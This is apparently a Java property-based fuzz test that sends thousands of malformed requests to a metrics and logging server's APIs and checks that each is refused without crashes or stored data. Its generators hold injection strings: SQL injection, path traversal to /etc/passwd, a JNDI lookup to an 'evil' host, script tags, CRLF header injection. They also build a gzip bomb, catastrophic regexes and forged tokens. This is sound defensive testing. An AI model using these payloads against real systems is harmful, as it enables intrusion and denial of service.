package io.meridian.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.meridian.http.testing.InMemoryNode;
import io.meridian.http.testing.RemoteWritePayload;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.GZIPOutputStream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.xerial.snappy.Snappy;

/**
 * The hostile-input campaign: for each API family, 10,000 generated bad requests (malformed and
 * deeply nested JSON, names with characters no API allows, Unicode and injection strings, absurd
 * numbers, gzip bombs, compressed garbage, hostile PromQL, regexes and query strings) against a
 * node enforcing credentials. Every answer must be a 4xx (never a 5xx, never a crash), the node
 * must keep serving, and afterwards the family's project must hold nothing: no series, log entries,
 * jobs, servers or credentials. The figures go to {@code target/hostile-input.md} for
 * docs/security.md.
 *
 * <p>Seeds are fixed so that CI runs the same inputs every time; {@code -Djqwik.seeds.whenfixed} is
 * not needed to reproduce a failure.
 */
class HostileInputTest {

  private static final int TRIES = 10_000;
  private static final String ADMIN_TOKEN = "hostile-input-admin-token-0123456789-abcdef";
  private static final ObjectMapper JSON = new ObjectMapper();

  private static InMemoryNode node;
  private static final Map<String, String> KEYS = new ConcurrentHashMap<>();
  private static final Map<String, Map<Integer, AtomicInteger>> STATUSES =
      new ConcurrentHashMap<>();

  /**
   * A request to send: method, path (with query), body, headers as name/value pairs. A write with
   * bad data must be refused (4xx); a hostile read may also be answered (an empty result, a
   * parameter the endpoint ignores), but never with a 5xx.
   */
  record Hostile(
      String method, String path, byte[] body, List<String> headers, boolean mustRefuse) {

    Hostile(String method, String path, byte[] body, List<String> headers) {
      this(method, path, body, headers, !method.equals("GET"));
    }

    static Hostile of(String method, String path, String body, String... headers) {
      return new Hostile(
          method,
          path,
          body == null ? null : body.getBytes(StandardCharsets.UTF_8),
          List.of(headers));
    }

    /** This request, answered by its API with a result or a refusal, but never a 5xx. */
    Hostile mayAnswer() {
      return mustRefuse(false);
    }

    Hostile mustRefuse(boolean refuse) {
      return new Hostile(method, path, body, headers, refuse);
    }

    @Override
    public String toString() {
      String text =
          body == null
              ? ""
              : new String(body, 0, Math.min(body.length, 300), StandardCharsets.UTF_8);
      return method
          + " "
          + path.substring(0, Math.min(path.length(), 300))
          + " "
          + headers
          + " "
          + text;
    }
  }

  @BeforeContainer
  static void start() throws Exception {
    node =
        InMemoryNode.enforcing(
            "HostileInputTest", ADMIN_TOKEN, "meridian.series.retention.default = 0\n");
    for (String family : List.of("opentsdb", "prometheus", "logs", "openmetrics", "native")) {
      HttpResponse<String> created =
          node.send(
              "POST",
              "/keys",
              "{\"project\":\"fuzz-" + family + "\",\"scopes\":[\"read\",\"write\",\"admin\"]}",
              "Authorization",
              "Bearer " + ADMIN_TOKEN);
      KEYS.put(family, JSON.readTree(created.body()).get("key").asText());
    }
  }

  @AfterContainer
  static void stop() throws IOException {
    StringBuilder figures = new StringBuilder("| family | requests | answers |\n|---|---|---|\n");
    new TreeMap<>(STATUSES)
        .forEach(
            (family, statuses) -> {
              int total = statuses.values().stream().mapToInt(AtomicInteger::get).sum();
              figures
                  .append("| ")
                  .append(family)
                  .append(" | ")
                  .append(total)
                  .append(" | ")
                  .append(new TreeMap<>(statuses))
                  .append(" |\n");
            });
    Path report = Path.of("target", "hostile-input.md");
    Files.createDirectories(report.getParent());
    Files.writeString(report, figures);
    if (node == null) {
      return;
    }
    try {
      nothingHostileWasStoredAndTheNodeStillServes();
    } finally {
      node.close();
    }
  }

  /** Sends {@code request} with the family's key and checks the answer is a 4xx. */
  private static void refused(String family, Hostile request) {
    HttpResponse<String> response = send(family, request);
    if (request.mustRefuse()) {
      assertThat(response.statusCode()).as("%s → %s", request, response.body()).isBetween(400, 499);
    } else {
      assertThat(response.statusCode()).as("%s → %s", request, response.body()).isLessThan(500);
    }
  }

  /** Sends {@code request} with the family's key (unless it has credentials), counting answers. */
  private static HttpResponse<String> send(String family, Hostile request) {
    HttpRequest.Builder builder =
        HttpRequest.newBuilder(URI.create("http://" + node.hostAndPort() + request.path()))
            .timeout(Duration.ofSeconds(30))
            .method(
                request.method(),
                request.body() == null
                    ? HttpRequest.BodyPublishers.noBody()
                    : HttpRequest.BodyPublishers.ofByteArray(request.body()));
    List<String> headers = new ArrayList<>(request.headers());
    if (headers.stream().noneMatch("Authorization"::equalsIgnoreCase)) {
      headers.add("X-TC-APP-KEY");
      headers.add(KEYS.get(family));
    }
    builder.headers(headers.toArray(String[]::new));
    HttpResponse<String> response = node.send(builder);
    STATUSES
        .computeIfAbsent(family, f -> new ConcurrentHashMap<>())
        .computeIfAbsent(response.statusCode(), s -> new AtomicInteger())
        .incrementAndGet();
    return response;
  }

  // ---- Hostile pieces ------------------------------------------------------------------------

  /**
   * Strings no name in any API may be: each has a character outside every name's alphabet (':' is
   * in Prometheus metric names, so it is not among them).
   */
  static Arbitrary<String> badNames() {
    Arbitrary<String> forbidden =
        Arbitraries.of(
            " ",
            "!",
            "\"",
            "#",
            "$",
            "%",
            "&",
            "'",
            "(",
            ")",
            "*",
            "+",
            ",",
            ";",
            "<",
            "=",
            ">",
            "?",
            "@",
            "[",
            "\\",
            "]",
            "^",
            "`",
            "{",
            "|",
            "}",
            "~",
            "\u0000",
            "\n",
            "\r",
            "\t",
            "\u200b",
            "\u202e",
            "\ud83d\ude00",
            "\u00a0");
    Arbitrary<String> around =
        Arbitraries.oneOf(
            Arbitraries.strings().alpha().numeric().ofMaxLength(20),
            Arbitraries.of(
                "'; DROP TABLE series; --",
                "../../etc/passwd",
                "${jndi:ldap://evil/a}",
                "<script>alert(1)</script>",
                "%00",
                "{{7*7}}",
                "\r\nSet-Cookie: a=b",
                "sys.cpu",
                "\u0645\u0631\u062d\u0628\u0627",
                "\u00e9t\u00e9"));
    return Combinators.combine(around, forbidden, around).as((a, f, b) -> a + f + b);
  }

  /** Values that are not numbers an API takes. */
  static Arbitrary<String> badNumbers() {
    return Arbitraries.of(
        "\"x\"",
        "\"\"",
        "null",
        "true",
        "[]",
        "{}",
        "1e999999",
        "-1e999999",
        "0x10",
        "99999999999999999999999999999999",
        "\"NaN\"",
        "\"1,5\"",
        "--1",
        "1.2.3");
  }

  /** Deeply nested JSON, beyond any parser's depth limit. */
  static Arbitrary<String> deepJson() {
    return Arbitraries.integers()
        .between(1_001, 200_000)
        .map(depth -> "[".repeat(depth) + "]".repeat(depth));
  }

  /** JSON that does not parse. */
  static Arbitrary<String> brokenJson() {
    return Arbitraries.oneOf(
        Arbitraries.strings().all().ofMaxLength(200).filter(s -> !parses(s)),
        Arbitraries.of("{", "[{]", "{\"a\":}", "\u0000", "{\"metric\":\"m\",}", "\"unterminated"));
  }

  private static boolean parses(String text) {
    try {
      JSON.readTree(text);
      return !text.isBlank();
    } catch (IOException e) {
      return false;
    }
  }

  /** A gzip body that expands to far more than any body limit (a "gzip bomb"). */
  static final byte[] GZIP_BOMB = gzip(new byte[64 * 1024 * 1024]);

  static byte[] gzip(byte[] data) {
    try {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      try (GZIPOutputStream zip = new GZIPOutputStream(out)) {
        zip.write(data);
      }
      return out.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  // ---- OpenTSDB ------------------------------------------------------------------------------

  @Provide
  Arbitrary<Hostile> openTsdb() {
    Arbitrary<String> name = Arbitraries.oneOf(badNames(), Arbitraries.of("sys.cpu"));
    Arbitrary<Hostile> badPoint =
        Combinators.combine(
                badNames(), badNames(), badNames(), Arbitraries.integers().between(0, 3))
            .as(
                (metric, tagk, tagv, which) -> {
                  String m = which == 0 ? metric : "ok.metric";
                  String k = which == 1 ? tagk : "host";
                  String v = which == 2 ? tagv : "web01";
                  String tags = which == 3 ? "{}" : "{" + quote(k) + ":" + quote(v) + "}";
                  return Hostile.of(
                      "POST",
                      "/api/put",
                      "{\"metric\":"
                          + quote(m)
                          + ",\"timestamp\":1700000000,\"value\":1,\"tags\":"
                          + tags
                          + "}");
                });
    Arbitrary<Hostile> badValues =
        Combinators.combine(badNumbers(), Arbitraries.integers().between(0, 1))
            // A 32-digit integer is a fine float value (1e32), if not a fine timestamp.
            .filter((number, which) -> which == 0 || !number.startsWith("999"))
            .as(
                (number, which) ->
                    Hostile.of(
                        "POST",
                        "/api/put",
                        "[{\"metric\":\"ok.metric\",\"timestamp\":"
                            + (which == 0 ? number : "1700000000")
                            + ",\"value\":"
                            + (which == 1 ? number : "1")
                            + ",\"tags\":{\"host\":\"a\"}}]"));
    Arbitrary<Hostile> badBodies =
        Arbitraries.oneOf(brokenJson(), deepJson())
            .map(body -> Hostile.of("POST", "/api/put", body));
    Arbitrary<Hostile> bombs =
        Arbitraries.of(
            new Hostile("POST", "/api/put", GZIP_BOMB, List.of("Content-Encoding", "gzip")),
            new Hostile(
                "POST",
                "/api/put",
                "not gzip at all".getBytes(StandardCharsets.UTF_8),
                List.of("Content-Encoding", "gzip")));
    Arbitrary<Hostile> queries =
        Combinators.combine(
                Arbitraries.oneOf(
                    badNames(),
                    Arbitraries.of(
                        "sum:",
                        "nope:m",
                        "sum:1h-bogus:m",
                        "sum:rate{x}:m",
                        "sum:m{host=regexp((a+)+b)}",
                        "sum:m{host=*}{",
                        "sum:m{=}",
                        "sum:" + "x".repeat(5000))),
                Arbitraries.oneOf(
                    Arbitraries.of(
                        "1h-ago", "-1", "abc", "99999999999999999999", "1h-ago&end=2h-ago"),
                    badNames()))
            .as(
                (m, start) ->
                    Hostile.of(
                        "GET", "/api/query?start=" + encoded(start) + "&m=" + encoded(m), null));
    Arbitrary<Hostile> others =
        Combinators.combine(
                Arbitraries.of(
                    "/api/suggest?type=",
                    "/api/search/lookup?m=",
                    "/api/query/last?timeseries=",
                    "/api/uid/uidmeta?type=metric&uid=",
                    "/api/annotation?start_time="),
                badNames())
            .as((path, value) -> Hostile.of("GET", path + encoded(value), null));
    Arbitrary<Hostile> bodies =
        Combinators.combine(
                Arbitraries.of(
                    "/api/query",
                    "/api/query/exp",
                    "/api/query/last",
                    "/api/annotation",
                    "/api/annotation/bulk",
                    "/api/uid/assign",
                    "/api/search/lookup",
                    "/api/suggest"),
                Arbitraries.oneOf(
                    brokenJson(), deepJson(), name.map(n -> "{\"x\":" + quote(n) + "}")))
            .as(
                (path, body) -> {
                  Hostile request = Hostile.of("POST", path, body);
                  // Queries, lookups and suggestions only read: they may answer what they find.
                  return path.startsWith("/api/annotation") || path.startsWith("/api/uid")
                      ? request
                      : request.mayAnswer();
                });
    Arbitrary<Hostile> deepExpressions =
        Combinators.combine(Arbitraries.integers().between(257, 200_000), Arbitraries.of("(", "-"))
            .as(
                (depth, opener) ->
                    Hostile.of(
                        "POST",
                        "/api/query/exp",
                        "{\"time\":{\"start\":\"1h-ago\",\"aggregator\":\"sum\"},"
                            + "\"metrics\":[{\"id\":\"a\",\"metric\":\"m\"}],"
                            + "\"expressions\":[{\"id\":\"e\",\"expr\":\""
                            + opener.repeat(depth)
                            + "a"
                            + (opener.equals("(") ? ")".repeat(depth) : "")
                            + "\"}]}"));
    return Arbitraries.oneOf(
        badPoint, badValues, badBodies, bombs, queries, others, bodies, deepExpressions);
  }

  @Property(tries = TRIES, seed = "9001", shrinking = ShrinkingMode.OFF)
  void openTsdbAnswersEveryHostileRequestWithA4xx(@ForAll("openTsdb") Hostile request) {
    refused("opentsdb", request);
  }

  // ---- Prometheus ----------------------------------------------------------------------------

  @Provide
  Arbitrary<Hostile> prometheus() {
    Arbitrary<String> promql =
        Arbitraries.oneOf(
            Arbitraries.strings().all().ofMaxLength(100).filter(s -> !s.isBlank()),
            badNames().map(n -> "{" + n + "=\"x\"}"),
            Arbitraries.of(
                "sum(",
                "rate(m[5m]",
                "m{a=~\"(a+)+b\"} and",
                "m[1s:0s]",
                "m offset 1e999y",
                "{__name__=\"\"}",
                "histogram_quantile(",
                "1 +",
                "label_replace(m, \"\", \"\", \"\", \"(\")",
                "m{a=~\"[\"}",
                "{}",
                "sum by (\u0000) (m)",
                "(".repeat(5000) + "m" + ")".repeat(5000),
                "m[100000000d]",
                "count_values(\"\u0000\", m)",
                "topk(1e999, m)"));
    Arbitrary<Hostile> queries =
        Combinators.combine(promql, Arbitraries.of("query", "query_range"))
            .as(
                (q, endpoint) ->
                    Hostile.of(
                        "GET",
                        "/prometheus/api/v1/"
                            + endpoint
                            + "?query="
                            + encoded(q)
                            + (endpoint.equals("query_range") ? "&start=1&end=1000&step=15" : ""),
                        null));
    Arbitrary<Hostile> badParams =
        Combinators.combine(
                Arbitraries.of("time", "start", "end", "step", "timeout", "lookback_delta"),
                Arbitraries.of(
                    "abc", "-", "1e999", "NaN", "Inf", "99999999999999999999", "0", "-15"),
                Arbitraries.of("query", "query_range", "series", "labels"))
            .as(
                (param, value, endpoint) ->
                    Hostile.of(
                        "GET",
                        "/prometheus/api/v1/"
                            + endpoint
                            + "?query=up&match%5B%5D=up&start=1&end=1000&step=15&"
                            + param
                            + "="
                            + encoded(value),
                        null));
    Arbitrary<Hostile> matchers =
        badNames()
            .map(
                n -> Hostile.of("GET", "/prometheus/api/v1/label/" + encoded(n) + "/values", null));
    Arbitrary<Hostile> writes =
        Arbitraries.oneOf(
            // Garbage may decode to an empty write request (protobuf skips what it does not
            // know): answered either way, and nothing may be stored.
            Arbitraries.bytes()
                .array(byte[].class)
                .ofMaxSize(2000)
                .map(garbage -> write(garbage).mayAnswer()),
            Arbitraries.bytes()
                .array(byte[].class)
                .ofMaxSize(2000)
                .map(garbage -> write(snappy(garbage)).mayAnswer()),
            Combinators.combine(badNames(), Arbitraries.integers().between(0, 2))
                .as(
                    (bad, which) ->
                        write(
                            new RemoteWritePayload()
                                .series(
                                    new long[] {System.currentTimeMillis()},
                                    new double[] {1},
                                    which == 0 ? "__name__" : bad,
                                    which == 0 ? bad : "x",
                                    "job",
                                    which == 2 ? "" : "j")
                                .body())),
            Arbitraries.just(
                new Hostile(
                    "POST",
                    "/prometheus/api/v1/write",
                    GZIP_BOMB,
                    List.of(
                        "Content-Encoding", "gzip", "Content-Type", "application/x-protobuf"))));
    Arbitrary<Hostile> deepForms =
        Arbitraries.integers()
            .between(1_000, 200_000)
            .map(
                depth ->
                    Hostile.of(
                            "POST",
                            "/prometheus/api/v1/query",
                            "query=" + encoded("(".repeat(depth) + "up" + ")".repeat(depth)),
                            "Content-Type",
                            "application/x-www-form-urlencoded")
                        // Prometheus has no nesting limit: what parses is answered, what would
                        // overflow the parser's stack is refused, and nothing gets a 5xx.
                        .mayAnswer());
    return Arbitraries.oneOf(queries, badParams, matchers, writes, deepForms);
  }

  private static Hostile write(byte[] body) {
    return new Hostile(
        "POST",
        "/prometheus/api/v1/write",
        body,
        List.of(
            "Content-Encoding",
            "snappy",
            "Content-Type",
            "application/x-protobuf",
            "X-Prometheus-Remote-Write-Version",
            "0.1.0"));
  }

  private static byte[] snappy(byte[] data) {
    try {
      return Snappy.compress(data);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  @Property(tries = TRIES, seed = "9002", shrinking = ShrinkingMode.OFF)
  void prometheusAnswersEveryHostileRequestWithA4xx(@ForAll("prometheus") Hostile request) {
    refused("prometheus", request);
  }

  // ---- Log excerpts --------------------------------------------------------------------------

  @Provide
  Arbitrary<Hostile> logs() {
    Arbitrary<Hostile> badEntries =
        Combinators.combine(
                Arbitraries.integers().between(0, 5),
                badNumbers(),
                badNames(),
                Arbitraries.of(6, -1, 99))
            .as(
                (which, number, text, level) -> {
                  String timestamp = which == 0 ? number : "5000";
                  String lvl = which == 1 ? String.valueOf(level) : which == 2 ? number : "1";
                  String ip = which == 3 ? quote(text) : "\"10.0.0.1\"";
                  String pid = which == 4 ? number : "1";
                  String service = which == 5 ? "null" : "\"api\"";
                  return Hostile.of(
                      "POST",
                      "/v1/log_excerpts",
                      "{\"timestamp\":"
                          + timestamp
                          + ",\"ip\":"
                          + ip
                          + ",\"pid\":"
                          + pid
                          + ",\"service\":"
                          + service
                          + ",\"level\":"
                          + lvl
                          + ",\"msg\":"
                          + quote(text)
                          + "}");
                });
    Arbitrary<Hostile> badBodies =
        Arbitraries.oneOf(
            Arbitraries.oneOf(brokenJson(), deepJson(), Arbitraries.of("[1,2]", "{}\n{"))
                .map(body -> Hostile.of("POST", "/v1/log_excerpts", body)),
            // Nothing to store: answered either way, and nothing is stored.
            Arbitraries.of("[]", "\n\n")
                .map(b -> Hostile.of("POST", "/v1/log_excerpts", b).mayAnswer()));
    Arbitrary<Hostile> badRanges =
        Combinators.combine(
                Arbitraries.oneOf(
                    badNames(), Arbitraries.of("-1", "1e9", "99999999999999999999", "")),
                Arbitraries.of("GET", "DELETE"))
            .as(
                (bound, method) -> {
                  Hostile request =
                      Hostile.of(method, "/v1/log_excerpts/" + encoded(bound) + "/2000", null);
                  // Deleting a range of numbers stores nothing, whatever the numbers.
                  return bound.matches("-?[0-9.e]+") ? request.mayAnswer() : request;
                });
    Arbitrary<Hostile> badFilters =
        Combinators.combine(
                Arbitraries.of("level", "service", "contains", "wait"),
                Arbitraries.oneOf(badNames(), Arbitraries.of("9", "-1", "abc", "1e999")))
            .as(
                (filter, value) ->
                    Hostile.of(
                        "GET",
                        "/v1/log_excerpts/2000/1000?" + filter + "=" + encoded(value),
                        null));
    return Arbitraries.oneOf(badEntries, badBodies, badRanges, badFilters);
  }

  @Property(tries = TRIES, seed = "9003", shrinking = ShrinkingMode.OFF)
  void logExcerptsAnswerEveryHostileRequestWithA4xx(@ForAll("logs") Hostile request) {
    refused("logs", request);
  }

  // ---- OpenMetrics jobs and targets ----------------------------------------------------------

  @Provide
  Arbitrary<Hostile> openMetrics() {
    String project = "/v1.0/projects/fuzz-openmetrics";
    Arbitrary<String> body =
        Arbitraries.oneOf(
            brokenJson(),
            deepJson(),
            // Job names are free text up to 100 characters: wrong types, empty or too long.
            Arbitraries.of("7", "[]", "{}", "null", "\"\"", quote("j".repeat(101)))
                .map(n -> "{\"jobName\":" + n + "}"),
            // (null is no value: the default interval.)
            badNumbers()
                .filter(n -> !n.equals("null"))
                .map(n -> "{\"jobName\":\"j\",\"scrapeIntervalSec\":" + n + "}"),
            badNames().map(n -> "{\"hostNm\":" + quote(n) + ",\"svrIp\":\"300.1.1.1\"}"),
            badNumbers().map(n -> "{\"hostId\":\"h\",\"port\":" + n + "}"));
    Arbitrary<Hostile> posts =
        Combinators.combine(
                Arbitraries.of("/jobs", "/servers", "/jobs/nope/targets", "/jobs/nope"), body)
            .as(
                (path, b) ->
                    Hostile.of(
                        path.equals("/jobs/nope") ? "PUT" : "POST",
                        project + path,
                        b,
                        "Content-Type",
                        "application/json"));
    Arbitrary<Hostile> gets =
        Combinators.combine(Arbitraries.of("/jobs/", "/jobs/x/targets/", "/servers/"), badNames())
            .as((path, id) -> Hostile.of("GET", project + path + encoded(id), null));
    Arbitrary<Hostile> otherProjects =
        badNames()
            .map(
                p ->
                    Hostile.of(
                        "POST",
                        "/v1.0/projects/" + encoded(p) + "/jobs",
                        "{\"jobName\":\"j\"}",
                        "Content-Type",
                        "application/json"));
    return Arbitraries.oneOf(posts, gets, otherProjects);
  }

  @Property(tries = TRIES, seed = "9004", shrinking = ShrinkingMode.OFF)
  void openMetricsAnswersEveryHostileRequestWithA4xxOrARefusal(
      @ForAll("openMetrics") Hostile request) {
    openMetricsRefused(request);
  }

  /** The OpenMetrics API answers refusals with HTTP 200 and a negative result code. */
  private static void openMetricsRefused(Hostile request) {
    HttpResponse<String> response = send("openmetrics", request);
    assertThat(response.statusCode()).as("%s → %s", request, response.body()).isLessThan(500);
    if (response.statusCode() == 200) {
      JsonNode header;
      try {
        header = JSON.readTree(response.body()).get("header");
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
      assertThat(header.get("isSuccessful").asBoolean())
          .as("%s → %s", request, response.body())
          .isFalse();
    }
  }

  // ---- Meridian's own API and OAuth 2 -------------------------------------------------------

  @Provide
  Arbitrary<Hostile> nativeApi() {
    Arbitrary<Hostile> keys =
        Arbitraries.oneOf(
                brokenJson(),
                deepJson(),
                badNames().map(n -> "{\"project\":" + quote(n) + ",\"scopes\":[\"read\"]}"),
                badNames().map(n -> "{\"project\":\"fuzz-native\",\"scopes\":[" + quote(n) + "]}"),
                Arbitraries.of(
                    "{\"project\":\"fuzz-native\",\"scopes\":[]}",
                    "{\"project\":\"fuzz-native\",\"scopes\":\"read\"}",
                    "{\"project\":\"fuzz-native\",\"scopes\":[\"read\"],\"description\":\""
                        + "d".repeat(5000)
                        + "\"}",
                    "{\"project\":\"other\",\"scopes\":[\"read\"]}",
                    "{\"project\":7,\"scopes\":[\"read\"]}"))
            .map(body -> Hostile.of("POST", "/keys", body));
    Arbitrary<Hostile> ids =
        Combinators.combine(
                Arbitraries.of("GET", "DELETE", "POST"),
                Arbitraries.of("/keys/", "/clients/"),
                badNames())
            .as(
                (method, path, id) ->
                    Hostile.of(
                        method,
                        path + encoded(id) + (method.equals("POST") ? "/rotate" : ""),
                        null));
    Arbitrary<Hostile> tokens =
        Arbitraries.oneOf(
                badNames().map(n -> "grant_type=" + encoded(n)),
                badNames()
                    .map(
                        n ->
                            "grant_type=client_credentials&client_id="
                                + encoded(n)
                                + "&client_secret=x"),
                badNames().map(n -> "grant_type=client_credentials&scope=" + encoded(n)),
                Arbitraries.of(
                    "grant_type=client_credentials&grant_type=client_credentials",
                    "%zz=1",
                    "=",
                    "&&&",
                    ""))
            .map(
                form ->
                    Hostile.of(
                        "POST",
                        "/v1/oauth2/token",
                        form,
                        "Content-Type",
                        "application/x-www-form-urlencoded"));
    Arbitrary<Hostile> bearers =
        Arbitraries.oneOf(
                badNames(),
                Arbitraries.of(
                    "a.b.c",
                    "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
                    "Bearer",
                    "mk_",
                    "..",
                    "eyJhbGciOiJIUzI1NiJ9.e30.AAAA"))
            .filter(b -> b.chars().allMatch(c -> c >= 0x21 && c < 0x7f))
            .map(b -> Hostile.of("GET", "/info", null, "Authorization", "Bearer " + b));
    return Arbitraries.oneOf(keys, ids, tokens, bearers);
  }

  @Property(tries = TRIES, seed = "9005", shrinking = ShrinkingMode.OFF)
  void theNativeApiAnswersEveryHostileRequestWithA4xx(@ForAll("nativeApi") Hostile request) {
    refused("native", request);
  }

  // ---- Nothing stored ------------------------------------------------------------------------

  /** After every family's campaign: their projects hold nothing, and the node still serves. */
  private static void nothingHostileWasStoredAndTheNodeStillServes() throws IOException {
    String key = KEYS.get("opentsdb");
    assertThat(
            node.send("GET", "/api/suggest?type=metrics&max=10", null, "X-TC-APP-KEY", key).body())
        .isEqualTo("[]");
    assertThat(
            JSON.readTree(
                    node.send(
                            "GET",
                            "/prometheus/api/v1/label/__name__/values",
                            null,
                            "X-TC-APP-KEY",
                            KEYS.get("prometheus"))
                        .body())
                .get("data"))
        .isEmpty();
    assertThat(
            node.send(
                    "GET",
                    "/v1/log_excerpts/0/9999999999999",
                    null,
                    "X-TC-APP-KEY",
                    KEYS.get("logs"))
                .body())
        .contains("\"entries\":[]");
    assertThat(
            JSON.readTree(
                    node.send(
                            "GET",
                            "/v1.0/projects/fuzz-openmetrics/jobs",
                            null,
                            "X-TC-APP-KEY",
                            KEYS.get("openmetrics"))
                        .body())
                .at("/body"))
        .isEmpty();
    assertThat(
            JSON.readTree(
                node.send(
                        "GET",
                        "/keys?project=fuzz-native",
                        null,
                        "X-TC-APP-KEY",
                        KEYS.get("native"))
                    .body()))
        .hasSize(1);
    assertThat(
            node.send(
                    "POST",
                    "/api/put",
                    "{\"metric\":\"after.fuzz\",\"timestamp\":1700000000,\"value\":1,"
                        + "\"tags\":{\"host\":\"a\"}}",
                    "X-TC-APP-KEY",
                    KEYS.get("native"))
                .statusCode())
        .isEqualTo(204);
  }

  private static String quote(String text) {
    try {
      return JSON.writeValueAsString(text);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
